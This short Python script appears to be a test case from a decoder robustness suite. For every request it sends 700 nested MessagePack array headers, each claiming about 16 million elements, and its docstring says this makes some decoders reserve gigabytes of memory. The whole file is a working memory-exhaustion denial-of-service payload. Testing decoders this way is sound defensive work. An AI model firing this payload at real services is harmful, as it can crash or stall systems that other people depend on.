"""Sends arrays in arrays in arrays, which some decoders reserve gigabytes for."""

import struct

from common import raw, requests

for _ in requests():
    payload = b"\xdd\x00\xff\xff\xff" * 700
    raw(struct.pack(">I", len(payload)) + payload)
